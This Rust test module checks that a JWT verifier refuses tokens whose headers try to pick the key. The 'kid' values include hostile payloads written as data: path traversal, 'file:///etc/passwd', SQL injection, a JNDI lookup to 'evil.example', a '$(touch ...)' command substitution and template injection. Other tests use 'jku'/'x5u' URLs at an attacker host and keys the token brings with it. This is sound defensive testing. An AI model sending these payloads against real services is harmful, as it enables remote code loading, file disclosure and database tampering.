//! Headers that try to choose the key, to reach a server or a file, or to change the meaning of the rest.

use serde_json::{Value, json};

use super::forge::{KEYS, OTHERS, b64, changed, claims, header, pem, token, with_header, with_header_text};
use super::{Attack, Policy};

pub(super) fn attacks() -> Vec<Attack> {
    [key_ids(), own_keys(), extensions(), types()].into_iter().flatten().collect()
}

/// A `kid` is a name, and never a path or an address.
fn key_ids() -> Vec<Attack> {
    let policy = Policy::public();
    let unknown = [
        "../../../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "https://evil.example/jwks.json",
        "' OR '1'='1",
        "x' UNION SELECT 'a secret of the host that is long enough",
        "ES256'; DROP TABLE keys; --",
        "ES256\" OR \"\"=\"",
        "${jndi:ldap://evil.example/a}",
        "$(touch /tmp/here)",
        "{{7*7}}",
        "%00",
        "ES256\u{0}",
        "ES256 ",
        " ES256",
        "es256",
        "ＥＳ256",
        "ES256\nkid: other",
        "__proto__",
        "*",
        "",
        "null",
        "0",
    ];
    let unknown = unknown.into_iter().map(|kid| {
        let token = with_header(&json!({ "kid": kid }));
        Attack::refused(&policy, format!("kid {kid:?}"), token, "unknown-key")
    });
    let long = [1025, 10 * 1024].map(|length| {
        let token = with_header(&json!({ "kid": "x".repeat(length) }));
        Attack::refused(&policy, format!("kid of {length} bytes"), token, "malformed")
    });
    let odd = [json!(5), json!(["ES256"]), json!({ "ES256": true }), json!(true)].map(|kid| {
        let name = format!("kid {kid}");
        Attack::refused(&policy, name, with_header(&json!({ "kid": kid })), "malformed")
    });
    let null =
        Attack::refused(&policy, "kid null", with_header_text(r#"{"alg":"ES256","kid":null}"#), "malformed");
    let empty_secret = Attack::refused(
        &Policy::secret(),
        "a MAC with the content of /dev/null",
        super::forge::with_signature(&json!({ "alg": "HS256", "kid": "/dev/null" }), |message| {
            super::forge::mac(b"", message)
        }),
        "bad-signature",
    );
    unknown.chain(long).chain(odd).chain([null, empty_secret]).collect()
}

/// A token cannot bring its own key.
fn own_keys() -> Vec<Attack> {
    let policy = Policy::public();
    let certificate = b64(&OTHERS.der("ES256"));
    let members = [
        ("jwk", json!({ "jwk": OTHERS.jwk("ES256") })),
        (
            "jwk with the private part",
            json!({ "jwk": changed(OTHERS.jwk("ES256"), &json!({ "d": "AAAA" })) }),
        ),
        (
            "jwk that is a secret",
            json!({ "jwk": { "kty": "oct", "k": b64(b"a secret of the attacker's own, long") } }),
        ),
        ("jku", json!({ "jku": "https://evil.example/jwks.json" })),
        (
            "jku at the issuer, with a redirect",
            json!({ "jku": "https://idp.example.com/redirect?to=https://evil.example" }),
        ),
        ("jku of a file", json!({ "jku": "file:///tmp/jwks.json" })),
        ("x5u", json!({ "x5u": "https://evil.example/x.pem" })),
        ("x5c", json!({ "x5c": [certificate] })),
        ("x5t", json!({ "x5t": "AAAA", "x5t#S256": "AAAA" })),
        ("a PEM", json!({ "pem": pem(&OTHERS.der("ES256"), "\n") })),
    ];
    members
        .into_iter()
        .flat_map(|(name, member)| {
            let of = |changes: &Value| {
                token(&OTHERS, "ES256", &changed(changed(header("ES256"), &member), changes), &claims())
            };
            let (named, nameless) = (of(&json!({})), of(&json!({ "kid": null })));
            [
                Attack::refused(&policy, format!("a key of its own by {name}"), named, "bad-signature"),
                Attack::refused(
                    &policy,
                    format!("a key of its own by {name}, without an id"),
                    nameless,
                    "bad-signature",
                ),
            ]
        })
        .chain([
            Attack::refused(
                &policy,
                "a key of its own by jwk, under an id of its own",
                token(
                    &OTHERS,
                    "ES256",
                    &json!({ "alg": "ES256", "kid": "mine", "jwk": OTHERS.jwk("ES256") }),
                    &claims(),
                ),
                "unknown-key",
            ),
            // What it says is not looked at, so it does not harm either.
            Attack::good(
                &policy,
                "good: a jku that nobody follows",
                with_header(&json!({ "jku": "https://evil.example" })),
            ),
        ])
        .collect()
}

/// Genuine tokens, whose headers demand extensions (`crit`).
fn extensions() -> Vec<Attack> {
    [
        json!({ "crit": ["exp"], "exp": 2_000_000_300 }),
        json!({ "crit": ["b64"], "b64": false }),
        json!({ "crit": ["b64"], "b64": true }),
        json!({ "crit": ["alg"] }),
        json!({ "crit": ["http://example.com/extension"], "http://example.com/extension": true }),
        json!({ "crit": [] }),
        json!({ "crit": "exp" }),
        json!({ "crit": 5 }),
        json!({ "crit": [["exp"]] }),
        json!({ "b64": false }),
        json!({ "b64": "false" }),
        json!({ "b64": 0 }),
        json!({ "zip": "DEF" }),
        json!({ "enc": "A256GCM" }),
        json!({ "enc": "A256GCM", "cty": "JWT" }),
        json!({ "cty": "JWT" }),
        json!({ "cty": "jwt" }),
        json!({ "cty": "application/jwt" }),
        json!({ "cty": "at+jwt" }),
        json!({ "cty": 5 }),
    ]
    .into_iter()
    .map(|changes| {
        Attack::refused(&Policy::public(), format!("header {changes}"), with_header(&changes), "malformed")
    })
    .chain([
        Attack::refused(
            &Policy::public(),
            "crit null",
            with_header_text(r#"{"alg":"ES256","kid":"ES256","crit":null}"#),
            "malformed",
        ),
        Attack::good(
            &Policy::public(),
            "good: a header with what nobody knows",
            with_header(&json!({ "x": [1, { "y": 2 }] })),
        ),
    ])
    .collect()
}

fn types() -> Vec<Attack> {
    let policy = Policy::public();
    let others = [
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "application/logout+jwt",
        "LOGOUT+JWT",
        "oauth-authz-req+jwt",
        "token-introspection+jwt",
        "entity-statement+jwt",
        "client-authentication+jwt",
        "id+jwt",
        "x+at+jwt",
    ]
    .map(|typ| {
        let token = with_header(&json!({ "typ": typ }));
        Attack::refused(&policy, format!("typ {typ:?}"), token, "wrong-type")
    });
    let odd = [json!(5), json!(["JWT"]), json!({})].map(|typ| {
        let name = format!("typ {typ}");
        Attack::refused(&policy, name, with_header(&json!({ "typ": typ })), "malformed")
    });
    let strict = Policy::public().with("typ", json!("at+jwt"));
    let complete = json!({ "client_id": "robot", "jti": "1" });
    let typed = |typ: Value| {
        let header = changed(header("ES256"), &json!({ "typ": typ }));
        token(&KEYS, "ES256", &header, &changed(claims(), &complete))
    };
    let not_typed = [
        json!("JWT"),
        json!(null),
        json!("at+jwt "),
        json!("at jwt"),
        json!("at+jwt, JWT"),
        json!("application/x/at+jwt"),
        json!("text/at+jwt"),
        json!("аt+jwt"),
    ]
    .map(|typ| {
        Attack::refused(&strict, format!("typ {typ}, where at+jwt is asked for"), typed(typ), "wrong-type")
    });
    let good = ["JWT", "at+jwt", "application/at+jwt", "JOSE"]
        .map(|typ| Attack::good(&policy, format!("good: typ {typ:?}"), with_header(&json!({ "typ": typ }))));
    let strictly = Attack::good(&strict, "good: at+jwt where it is asked for", typed(json!("at+jwt")));
    others.into_iter().chain(odd).chain(not_typed).chain(good).chain([strictly]).collect()
}
